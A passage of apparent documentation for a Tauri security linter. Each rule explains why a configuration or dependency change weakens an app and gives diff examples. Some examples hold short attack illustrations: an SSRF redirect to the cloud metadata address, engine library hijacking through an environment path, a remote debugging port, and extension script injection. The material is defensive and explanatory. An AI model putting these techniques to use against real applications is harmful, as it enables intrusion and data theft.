  "build/proc-macro-added": '# A crate newly runs inside the compiler: `build/proc-macro-added`\n\nSeverity: medium where the macros reach out, can\'t be followed or weren\'t looked into; high where they reach out or weren\'t looked into, and a compatible update brings them; else low.\n\nSince: 0.1.0\n\nA crate of the app is a procedural macro, and no version of it that base locks was one.\n\n## Why it matters\n\nThe compiler loads a procedural macro as a library and runs it, with the rights of whoever builds and without a sandbox. It sees the code that it is applied to and writes what is compiled in its place.\n\n## What to do\n\nRead the macro\'s source in the crate\'s archive, above all what it does besides turning tokens into tokens: files, processes, environment variables. Derives of well-known crates are ordinary; a small new one that a single crate needs deserves the time.\n\n## When it says nothing\n\n- A procedural macro is updated.\n- `crate-type = ["lib"]` beside `proc-macro = true`: cargo builds a plain library then.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new procedural macro\n\n`src-tauri/Cargo.lock`:\n\n```diff\n version = "1.0.0"\n dependencies = [\n+ "serde",\n  "tauri",\n ]\n\n [[package]]\n+name = "serde"\n+version = "1.0.219"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "88605f51cc026e30fb229939427a45dbef07443bdd732182a98b19518d4784e0"\n+dependencies = [\n+ "serde_derive",\n+]\n+\n+[[package]]\n+name = "serde_derive"\n+version = "1.0.219"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "915d90b6f2ca13c8fa4d2ec5ff90b4e072969a59027669ea4c47c7fc7fae1a89"\n+\n+[[package]]\n name = "tauri"\n version = "2.8.0"\n```\n\nBuilding the app newly runs the procedural macros of `serde_derive 1.0.219`:\n\n```\ncargo build  # loads the procedural macros of serde_derive 1.0.219 into the compiler\n```\n\n### It says nothing when a macro is updated\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "serde_derive"\n-version = "1.0.218"\n+version = "1.0.219"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "285869bb0688cec8fdee20003f427fffa071da720629a6d7f901c95d0af7f26b"\n+checksum = "915d90b6f2ca13c8fa4d2ec5ff90b4e072969a59027669ea4c47c7fc7fae1a89"\n\n [[package]]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Rust: procedural macros](https://doc.rust-lang.org/reference/procedural-macros.html)\n- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)\n- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)\n',
  "config/browser-extensions-allowed": '# Browser extensions may run in the app: `config/browser-extensions-allowed`\n\nSeverity: medium; low for an app that is new.\n\nSince: 0.1.0\n\n`browserExtensionsEnabled` was turned on for a window. Only Windows has it.\n\n## Why it matters\n\nAn extension in the profile of the webview runs its scripts in the app\'s pages. The app\'s Content Security Policy doesn\'t stop them, and what they call is called by the page.\n\n## What to do\n\nKeep it off. If one page needs an extension, give that page a window of its own without capabilities.\n\n## When it says nothing\n\n- The setting is `false` in so many words, which is the default.\n- The window has it on before and after, in another layer of the configuration.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags extensions\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main"\n+        "label": "main",\n+        "browserExtensionsEnabled": true\n       }\n     ]\n```\n\nBrowser extensions can newly run in the pages of window `main` on Windows:\n\n```\nchrome.scripting.executeScript({ target: { tabId }, func: () => … })\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main"\n+        "label": "main",\n+        "browserExtensionsEnabled": false\n       }\n     ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [MDN: content scripts of extensions](https://developer.mozilla.org/en-US/docs/Mozilla/Add-ons/WebExtensions/Content_scripts)\n- [WebView2: secure apps](https://learn.microsoft.com/en-us/microsoft-edge/webview2/concepts/security)\n',
  "config/browser-switch-added": '# The browser runs with another switch: `config/browser-switch-added`\n\nSeverity: critical for switches that take away the web\'s own protection or open a debugging port; high for isolation, extensions, proxies and name resolution; low for others and for an app that is new.\n\nSince: 0.1.0\n\n`additionalBrowserArgs` of a window has a switch that no window had before. Every switch is named for itself, and so is every entry of a list of features. Only Windows has them.\n\n## Why it matters\n\n`--remote-debugging-port` lets any program of the machine drive the app\'s pages, with all that they may call. `--disable-web-security` and `--ignore-certificate-errors` let other sites in. The setting also replaces what Tauri passes by itself.\n\n## What to do\n\nKeep switches for development out of the configuration that is shipped. Rendering switches are harmless.\n\n## When it says nothing\n\n- The switch is written differently (`/disable-gpu`, `--Disable-GPU`), or another window had it.\n- The features that the webview turns off by default are written out.\n- The debugging port has another number.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a debugging port\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main"\n+        "label": "main",\n+        "additionalBrowserArgs": "--remote-debugging-port=9222 --disable-gpu"\n       }\n     ]\n```\n\nThe browser in the app can newly run with `--remote-debugging-port` on Windows:\n\n```\nmsedgewebview2.exe --remote-debugging-port\n```\n\n### It says nothing of another port\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       {\n         "label": "main",\n-        "additionalBrowserArgs": "--remote-debugging-port=9222"\n+        "additionalBrowserArgs": "--remote-debugging-port=9333"\n       }\n     ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [WebView2: browser flags](https://learn.microsoft.com/en-us/microsoft-edge/webview2/concepts/webview-features-flags)\n- [Chrome DevTools Protocol](https://chromedevtools.github.io/devtools-protocol/)\n',
  "config/cargo-feature-added": '# A Cargo feature opens something: `config/cargo-feature-added`\n\nSeverity: high for `dangerous-settings` of the http plugin; medium for its `unsafe-headers` and for `webview-data-url`; low for `unstable` and `cookies`; info for `watch` of the fs plugin; at most low for an app that is new.\n\nSince: 0.1.0\n\nA feature of `tauri` or of an official plugin is newly on: in a dependency table of the app\'s Cargo.toml or of a crate of the repository that it is built with (what the workspace hands on included), through features of these crates, through `build.features` of the configuration, or on the command line of a build.\n\n## Why it matters\n\n`dangerous-settings` lets a page accept any certificate. `unsafe-headers` lets it send `Origin` and `Cookie` as it likes. `webview-data-url` lets windows show pages that are only a URL. `unstable` lets code put several webviews into a window, which then share what is granted to the window.\n\n## What to do\n\nAsk for the feature only where it is used. For development, make a feature of the app\'s own that turns it on, and leave that out of `default`.\n\n## When it says nothing\n\n- The feature moves between Cargo.toml, the workspace and the app\'s own features.\n- It is one that the configuration asks for, such as `protocol-asset`, `isolation` and `macos-private-api`: what the setting opens is said instead.\n- `window-data-url` of Tauri 1 becomes `webview-data-url`.\n- A crate from elsewhere turns the feature on: its manifest isn\'t in the repository.\n- A crate that only runs while the app is built asks for it, where the resolver of the workspace keeps these apart.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags features of plugins\n\n`src-tauri/Cargo.toml`:\n\n```diff\n\n [dependencies]\n-tauri = "2"\n-tauri-plugin-http = "2"\n-tauri-plugin-fs = "2"\n+tauri = { version = "2", features = ["protocol-asset", "tray-icon"] }\n+tauri-plugin-http = { version = "2", features = ["dangerous-settings", "unsafe-headers"] }\n+tauri-plugin-fs = { version = "2", features = ["watch"] }\n```\n\nPages with permissions of the http plugin can newly send requests that accept any certificate:\n\n```\nfetch(\'https://example.com\', { danger: { acceptInvalidCerts: true } })\n```\n\n### It says nothing of a feature that is off by default\n\n`src-tauri/Cargo.toml`:\n\n```diff\n tauri-plugin-http = "2"\n tauri-plugin-fs = "2"\n+[features]\n+default = []\n+extra = ["tauri/unstable"]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: features](https://doc.rust-lang.org/cargo/reference/features.html)\n- [docs.rs: features of `tauri`](https://docs.rs/crate/tauri/latest/features)\n- [Tauri 2: the http plugin](https://v2.tauri.app/plugin/http-client/)\n',
  "config/devtools-in-release": '# The inspector is in releases: `config/devtools-in-release`\n\nSeverity: medium; low for an app that is new.\n\nSince: 0.1.0\n\nThe feature `devtools` of the crate `tauri` (or of `tauri-runtime-wry`, which makes the windows) was turned on, releases are built with debug assertions, or a window that had refused the inspector (`devtools: false`) no longer does.\n\nDebug assertions come from the profile that a release is built with (`[profile.release]` of the workspace\'s root, for all crates, for `*`, `tauri-runtime-wry` or `wry` alone), from cargo\'s settings (`.cargo/config.toml`, which win over the manifest), or from a flag for the compiler (`-C debug-assertions`). With those of `wry` alone no window can refuse the inspector.\n\n## Why it matters\n\nDevelopment builds have the inspector in any case. With the feature or with debug assertions a release has it too, and its console calls commands as the page does. With debug assertions all other code behind `debug_assertions` runs as well: the updater then takes endpoints without https.\n\n## What to do\n\nTurn the feature on in a development build alone, by a feature of the app\'s own that is off by default. Leave `debug-assertions` to `[profile.dev]`.\n\n## When it says nothing\n\n- A window sets `devtools: true` and the feature is off: then releases have no inspector.\n- `devtools: true` is written out where the feature is on.\n- A window is added where windows could be inspected before.\n- Debug assertions of a profile that releases aren\'t built with, of build scripts alone (`build-override`), or in a manifest that isn\'t the root of its workspace.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags the feature\n\n`src-tauri/Cargo.toml`:\n\n```diff\n\n [dependencies]\n-tauri = "2"\n+tauri = { version = "2", features = ["devtools"] }\n```\n\nWhoever sits at the machine can newly open the inspector in a release of the app:\n\n```\ndocument.title = \'from the console\'\n```\n\n### It says nothing of a window without the feature\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       {\n         "label": "main",\n-        "devtools": false\n+        "devtools": true\n       }\n     ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: debugging](https://v2.tauri.app/develop/debug/)\n- [Cargo: profiles](https://doc.rust-lang.org/cargo/reference/profiles.html)\n- [docs.rs: features of `tauri`](https://docs.rs/crate/tauri/latest/features)\n',
  "config/dropped-files-in-scope": '# Dropped files join the scope: `config/dropped-files-in-scope`\n\nSeverity: low.\n\nSince: 0.1.0\n\n`plugins.fs.scopeDroppedPaths` was `false` and no longer is, or the plugin went to a version before 2.7 that doesn\'t know it.\n\n## Why it matters\n\nA file or folder that a person drops on any window joins the scope of the fs plugin for all windows, until the app ends.\n\n## What to do\n\nKeep the setting at `false` if the app doesn\'t need to open what is dropped.\n\n## When it says nothing\n\n- The plugin is new: by default it takes in what is dropped, and its arrival is reported by itself.\n- `true` is written out, which is the default.\n- The app moves from Tauri 1, which always takes in what is dropped.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a guard that is turned off\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "plugins": {\n     "fs": {\n-      "scopeDroppedPaths": false\n+      "scopeDroppedPaths": true\n     }\n   }\n```\n\nEvery page with permissions of the fs plugin can newly reach files and whole folders that a person drops on any window:\n\n```\nreadDir(\'/home/user/dropped\')\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n {\n   "productName": "notes",\n-  "identifier": "org.example.notes"\n+  "identifier": "org.example.notes",\n+  "plugins": {\n+    "fs": {\n+      "scopeDroppedPaths": true\n+    }\n+  }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the fs plugin](https://v2.tauri.app/plugin/file-system/)\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n- [RUSTSEC-2022-0091: dropped files let more through than themselves](https://rustsec.org/advisories/RUSTSEC-2022-0091.html)\n',
  "config/engine-not-bundled": '# The browser engine is loaded from elsewhere: `config/engine-not-bundled`\n\nSeverity: high; low for an app that is new.\n\nSince: 0.1.0\n\n`bundle.cef.embed` was set to `false` in an app on Tauri\'s Chromium runtime.\n\n## Why it matters\n\nThe app then loads the engine from a path that its environment names. That library sees every page and calls every command.\n\n## What to do\n\nLeave the setting away: by default the engine is in the bundle.\n\n## When it says nothing\n\n- `true` is written out, which is the default.\n- The setting moves to another layer of the configuration.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags an engine outside of the bundle\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "bundle": {\n     "cef": {\n-      "embed": true\n+      "embed": false\n     }\n   }\n```\n\nWhoever sets the app\'s environment or writes the library that it names can newly put in the browser engine that the app loads:\n\n```\nTAURI_CEF_LIBRARY_PATH=/tmp/libcef.so notes\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n {\n   "productName": "notes",\n-  "identifier": "org.example.notes"\n+  "identifier": "org.example.notes",\n+  "bundle": {\n+    "cef": {\n+      "embed": true\n+    }\n+  }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Chromium Embedded Framework](https://github.com/chromiumembedded/cef)\n- [Tauri 2: versions of webviews](https://v2.tauri.app/reference/webview-versions/)\n- [CWE-426: untrusted search path](https://cwe.mitre.org/data/definitions/426.html)\n',
  "config/engine-replaced": '# The app brings its own browser engine: `config/engine-replaced`\n\nSeverity: medium; low for an app that is new.\n\nSince: 0.1.0\n\nThe crate `tauri-runtime-cef` joined the app: in its Cargo.toml, or in what the lockfile says its crates depend on.\n\n## Why it matters\n\nWithout it the system\'s webview shows the pages, and the system\'s updates patch it. A Chromium of the app\'s own is as old as the app\'s last release.\n\n## What to do\n\nDecide on it as on a dependency that needs an update every few weeks.\n\n## When it says nothing\n\n- The crate changes its version.\n- It moves between Cargo.toml and the workspace\'s.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags the runtime that a feature brings\n\n`src-tauri/Cargo.lock`:\n\n```diff\n source = "registry+https://github.com/rust-lang/crates.io-index"\n checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n+dependencies = [\n+ "tauri-runtime-cef",\n+]\n\n [[package]]\n@@\n  "tauri",\n ]\n+\n+[[package]]\n+name = "tauri-runtime-cef"\n+version = "0.1.0-alpha.5"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n```\n\n`src-tauri/Cargo.toml`:\n\n```diff\n\n [dependencies]\n-tauri = "3.0.0-alpha.5"\n+tauri = { version = "3.0.0-alpha.5", features = ["cef"] }\n```\n\nA Chromium that is part of the app can newly show the app\'s pages, in place of the system\'s webview:\n\n```\ncargo tree --invert cef-dll-sys\n```\n\n### It says nothing of another version\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-runtime-cef"\n-version = "0.1.0-alpha.5"\n+version = "0.1.0-alpha.6"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: versions of webviews](https://v2.tauri.app/reference/webview-versions/)\n- [Chromium Embedded Framework](https://github.com/chromiumembedded/cef)\n- [Tauri 2: architecture](https://v2.tauri.app/concept/architecture/)\n',
  "config/foreign-script": '# A page runs a script of a website: `config/foreign-script`\n\nSeverity: critical over `http:`; high; medium for a server on the same machine; low where the page names the hash.\n\nSince: 0.1.0\n\nA front page of the app holds a `<script>` whose `src` is an address of a site from which it took none before.\n\n## Why it matters\n\nTauri puts a nonce on each script whose `src` begins with `http`, so it runs whatever the app\'s policy says. It runs as the app: with all that is granted to its own pages. Whoever answers for the site decides what it does, for each person and each start anew.\n\n## What to do\n\nShip the script with the app, or name its hash in `integrity`.\n\n## When it says nothing\n\n- The page took a script from that site before.\n- It names the hash of a script, and took any script from that site before.\n- The frontend is a site: then all its scripts are that site\'s own.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a script of a site\n\n`index.html`:\n\n```diff\n   <head>\n     <title>Notes</title>\n+    <script src="https://cdn.example/a.js"></script>\n     <script type="module" src="/src/main.ts"></script>\n   </head>\n```\n\nScripts of `https://cdn.example` can newly run in the app\'s own pages, with what is granted to them:\n\n```\n<script src="https://cdn.example/a.js"></script>\n```\n\n### It says nothing of a script of the app\n\n`index.html`:\n\n```diff\n   <head>\n     <title>Notes</title>\n+    <script src="/https/a.js"></script>\n     <script type="module" src="/src/main.ts"></script>\n   </head>\n```\n\n<!-- end examples -->\n\n## References\n\n- [W3C: Subresource Integrity](https://www.w3.org/TR/SRI/)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)\n',
  "config/global-api-exposed": '# Tauri\'s API is under a global name: `config/global-api-exposed`\n\nSeverity: low.\n\nSince: 0.1.0\n\n`app.withGlobalTauri` (in Tauri 1: `build.withGlobalTauri`) was turned on: every page of the app finds Tauri\'s API, and that of every plugin, under `window.__TAURI__`.\n\n## Why it matters\n\nIt grants nothing that capabilities don\'t. But a script that someone else got into a page, or one that the app loads from another site, can then call what the page may call in one line.\n\n## What to do\n\nWith a bundler, import `@tauri-apps/api` instead and leave the setting off. Without one, keep it, and see that the Content Security Policy lets no foreign script in.\n\n## When it says nothing\n\n- It was on before, in another place or for another platform that this one now joins by the same file.\n- The app moves from Tauri 1 to 2 with the setting on.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a setting that is turned on\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n {\n   "identifier": "com.example.notes",\n-  "app": {}\n+  "app": { "withGlobalTauri": true }\n }\n```\n\nAny script in the app\'s pages can newly call Tauri\'s API through `window.__TAURI__`:\n\n```\nwindow.__TAURI__.core.invoke(\'…\')\n```\n\n### It says nothing when a key is spelt in kebab-case\n\n`src-tauri/Tauri.toml`:\n\n```diff\n\n [app]\n-withGlobalTauri = true\n+with-global-tauri = true\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)\n- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)\n',
  "config/header-weakened": '# A header of the app\'s pages is weaker: `config/header-weakened`\n\nSeverity: medium where frames may be handed the camera, the microphone, the screen or the location; info for `Timing-Allow-Origin`; low for others and for an app that is new.\n\nSince: 0.1.0\n\n`app.security.headers` no longer sends a header that guards (`Permissions-Policy`, `Cross-Origin-…`, `X-Content-Type-Options`) or sends it with a weaker value, or it sends one that opens more (`Access-Control-Allow-…`, `Timing-Allow-Origin`, `Service-Worker-Allowed`).\n\n## Why it matters\n\nWithout `Permissions-Policy: camera=()` a page of the app can hand the camera to a site in a frame. The other headers are defence in depth: `Access-Control-Allow-Origin` is Tauri\'s own and can\'t be set, so the rest of them matters only for windows that show a site.\n\n## What to do\n\nKeep the headers that guard. For one feature, name the site that needs it: `camera=(self "https://meet.example")`.\n\n## When it says nothing\n\n- A list turns into a table or a text that says the same, or `*` stands where nothing did: both let every site be handed the feature.\n- `Permissions-Policy` with tauri-utils before 2.10, which sent it under a wrong name.\n- `Access-Control-Max-Age` and `Tauri-Custom-Header`, which open nothing.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a policy that went\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "app": {\n     "security": {\n-      "headers": {\n-        "Permissions-Policy": "camera=(), microphone=()"\n-      }\n+      "headers": {}\n     }\n   }\n```\n\nThe app\'s pages and sites in their frames can newly use devices and features:\n\n```\n<iframe src="https://example.com" allow="camera; microphone"></iframe>\n```\n\n### It says nothing of a narrower header\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "security": {\n       "headers": {\n-        "Access-Control-Expose-Headers": "*",\n-        "Service-Worker-Allowed": "/"\n+        "Access-Control-Expose-Headers": "X-Total",\n+        "Service-Worker-Allowed": "/a/"\n       }\n     }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: HTTP headers](https://v2.tauri.app/security/http-headers/)\n- [MDN: Permissions-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Permissions-Policy)\n- [MDN: Content-Security-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy)\n',
  "config/isolation-removed": '# Messages to Rust no longer pass the isolation hook: `config/isolation-removed`\n\nSeverity: high.\n\nSince: 0.1.0\n\n`app.security.pattern.use` (in Tauri 1: `tauri.pattern.use`) was `isolation` and no longer is.\n\n## Why it matters\n\nWith the isolation pattern each message to Rust is encrypted by a frame that runs the app\'s own hook, and the hook can refuse it. Without, whatever runs in a page can send any message; capabilities still decide what it may call.\n\n## What to do\n\nLeave the pattern as it is, or move what the hook refuses into scopes and into the commands themselves.\n\n## When it says nothing\n\n- The hook\'s folder or its scripts change. Toril doesn\'t read what the hook does: look at them as at any guard.\n- The app is new: it starts without the pattern, as Tauri does.\n- `brownfield`, the default, is written out.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags the pattern that went\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "identifier": "org.example.notes",\n   "app": {\n-    "security": {\n-      "pattern": {\n-        "use": "isolation",\n-        "options": {\n-          "dir": "../isolation"\n-        }\n-      }\n-    }\n+    "security": {}\n   }\n }\n```\n\nAny script in the app\'s pages can newly send messages to Rust that the isolation hook doesn\'t see:\n\n```\nwindow.__TAURI_INTERNALS__.invoke(\'…\')\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "identifier": "org.example.notes",\n   "app": {\n-    "security": {}\n+    "security": {\n+      "pattern": {\n+        "use": "brownfield"\n+      }\n+    }\n   }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the isolation pattern](https://v2.tauri.app/concept/inter-process-communication/isolation/)\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)\n',
  "config/link-scheme-claimed": '# Links of websites open the app: `config/link-scheme-claimed`\n\nSeverity: medium; low for an app that is new.\n\nSince: 0.1.0\n\n`plugins.deep-link` names a scheme, or for mobile systems a scheme and a domain, that it didn\'t before.\n\n## Why it matters\n\nAny page in any browser can then start the app with a text of its choice, usually after one question to the person. Custom schemes belong to nobody: the next app that is installed may take over `notes://login?code=…`.\n\n## What to do\n\nCheck what the handler does with the link. For sign-in use an `https` link of a domain that is yours, with `appLink`.\n\n## When it says nothing\n\n- The list of schemes moves between the forms that the plugin reads.\n- A path of a domain is added: a site\'s other pages can link to the paths that were there.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a scheme\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n {\n   "productName": "notes",\n-  "identifier": "org.example.notes"\n+  "identifier": "org.example.notes",\n+  "plugins": {\n+    "deep-link": {\n+      "desktop": {\n+        "schemes": [\n+          "notes"\n+        ]\n+      }\n+    }\n+  }\n }\n```\n\nAny website can newly open the app with a link that begins with `notes://` on Linux, macOS and Windows:\n\n```\nlocation.href = \'notes://anything\'\n```\n\n### It says nothing when a default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       "mobile": [\n         {\n-          "host": "notes.example"\n+          "scheme": [\n+            "https"\n+          ],\n+          "host": "notes.example",\n+          "pathPrefix": [\n+            "/open"\n+          ]\n         }\n       ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: deep links](https://v2.tauri.app/plugin/deep-linking/)\n- [Android: app links](https://developer.android.com/training/app-links)\n',
  "config/local-scheme-added": '# A scheme of the app\'s own counts as local: `config/local-scheme-added`\n\nSeverity: medium; low for an app that is new.\n\nSince: 0.1.0\n\nThe app\'s code calls `register_uri_scheme_protocol` or `register_asynchronous_uri_scheme_protocol` for another scheme. A name that is computed counts as it is written.\n\n## Why it matters\n\nTauri takes every scheme that the app registers for local. If the handler answers with text that someone else wrote, that text is a page with the app\'s permissions.\n\n## What to do\n\nLook at what the handler answers with. Images and sound need no `text/html`.\n\n## When it says nothing\n\n- The call moves to another file, or stands in a comment or a text.\n- A crate beside the app\'s `src` folder registers it. Toril doesn\'t follow that.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a scheme\n\n`src-tauri/src/lib.rs`:\n\n```diff\n pub fn run() {\n     tauri::Builder::default()\n+        .register_uri_scheme_protocol("stream", |_app, request| answer(request))\n         .run(tauri::generate_context!())\n         .expect("the app runs");\n```\n\nPages that the app itself serves under `stream:` can newly call what is granted to the app\'s own pages:\n\n```\nlocation.href = \'stream://localhost/\'\n```\n\n### It says nothing when the call moves\n\n`src-tauri/src/lib.rs`:\n\n```diff\n-pub fn run() {\n-    tauri::Builder::default()\n-        .register_uri_scheme_protocol("stream", |_app, request| answer(request))\n-        .run(tauri::generate_context!())\n-        .expect("the app runs");\n-}\n+mod setup;\n```\n\n`src-tauri/src/setup.rs`:\n\n```diff\n+const SCHEME: &str = "stream";\n+pub fn run() {\n+    tauri::Builder::default()\n+        .register_asynchronous_uri_scheme_protocol(SCHEME, |_app, request| answer(request))\n+        .run(tauri::generate_context!())\n+        .expect("the app runs");\n+}\n```\n\n<!-- end examples -->\n\n## References\n\n- [docs.rs: `tauri::Builder`](https://docs.rs/tauri/latest/tauri/struct.Builder.html)\n- [CVE-2026-42184: a website was taken for the app itself](https://github.com/advisories/GHSA-7gmj-67g7-phm9)\n- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)\n',
  "config/prototype-unfrozen": '# Objects\' common ancestor can be changed: `config/prototype-unfrozen`\n\nSeverity: low.\n\nSince: 0.1.0\n\n`app.security.freezePrototype` was on and no longer is.\n\n## Why it matters\n\nWith it, `Object.prototype` is frozen before the first script of a page runs, so that no script can change what all objects inherit. It is defence in depth.\n\n## What to do\n\nLeave it on if nothing breaks.\n\n## When it says nothing\n\n- `false` is written out, which is the default.\n- The app is new: it starts without, as Tauri does.\n- The setting moves to another layer, or is spelt `freeze-prototype`.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a guard that is turned off\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "app": {\n     "security": {\n-      "freezePrototype": true\n+      "freezePrototype": false\n     }\n   }\n```\n\nAny script in the app\'s pages can newly change what all objects inherit, through `Object.prototype`:\n\n```\nObject.prototype.toJSON = () => …\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "identifier": "org.example.notes",\n   "app": {\n-    "security": {}\n+    "security": {\n+      "freezePrototype": false\n+    }\n   }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [MDN: prototype pollution](https://developer.mozilla.org/en-US/docs/Web/Security/Attacks/Prototype_pollution)\n- [CWE-1321: prototype pollution](https://cwe.mitre.org/data/definitions/1321.html)\n',
  "config/redirects-unscoped": '# Redirects leave the scope of requests: `config/redirects-unscoped`\n\nSeverity: medium.\n\nSince: 0.1.0\n\n`plugins.http.scopeRedirects` was `true` and no longer is, or the plugin went from a version that checks redirects to one that doesn\'t. It is there from 2.7 on; from 3.0 on redirects are always checked.\n\n## Why it matters\n\nThe http plugin sends requests from outside of the browser, where no rule of the web stops them. With the check each hop has to be in the scope of the app\'s capabilities (CVE-2026-95623).\n\n## What to do\n\nKeep the setting on, and add hosts that are really redirected to, to the scope.\n\n## When it says nothing\n\n- The plugin is new: by default it follows redirects, and its arrival is reported by itself.\n- `false` is written out, which is the default.\n- No lockfile tells the version, and the setting is on.\n- The app moves from Tauri 1, which follows redirects too.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a check that is turned off\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n {\n   "productName": "notes",\n-  "identifier": "org.example.notes",\n-  "plugins": {\n-    "http": {\n-      "scopeRedirects": true\n-    }\n-  }\n+  "identifier": "org.example.notes"\n }\n```\n\nA server that the app may call through the http plugin can newly send it on to any other URL:\n\n```\nfetch(\'https://api.example.com/\') → 302 http://169.254.169.254/\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n {\n   "productName": "notes",\n-  "identifier": "org.example.notes"\n+  "identifier": "org.example.notes",\n+  "plugins": {\n+    "http": {\n+      "scopeRedirects": false\n+    }\n+  }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the http plugin](https://v2.tauri.app/plugin/http-client/)\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n- [CVE-2026-95623: redirects left the scope of the http plugin](https://osv.dev/vulnerability/CVE-2026-95623)\n',
  "config/remote-frontend": '# A website is the app: `config/remote-frontend`\n\nSeverity: critical; high for a server on the same machine; low for a scheme that the app answers itself.\n\nSince: 0.1.0\n\n`build.frontendDist` (in Tauri 1: `build.distDir`) is a URL whose origin it was not before.\n\n## Why it matters\n\nTauri then takes the whole origin of that URL for local. The policy and the hashes that Tauri adds are for files in the app, so they are gone as well.\n\n## What to do\n\nShip the pages with the app. To show a site, open it in a window of its own, without capabilities for it.\n\n## When it says nothing\n\n- It is a folder or a list of files, whichever.\n- Another path of the same site.\n- `devUrl`, which no release has.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a site as the frontend\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "identifier": "org.example.notes",\n   "build": {\n-    "frontendDist": "../dist"\n+    "frontendDist": "https://app.example.com/notes"\n   }\n }\n```\n\nPages of `https://app.example.com` can newly be the app, with everything that is granted to its own pages:\n\n```\nGET https://app.example.com/notes\n```\n\n### It says nothing of another path of the site\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "identifier": "org.example.notes",\n   "build": {\n-    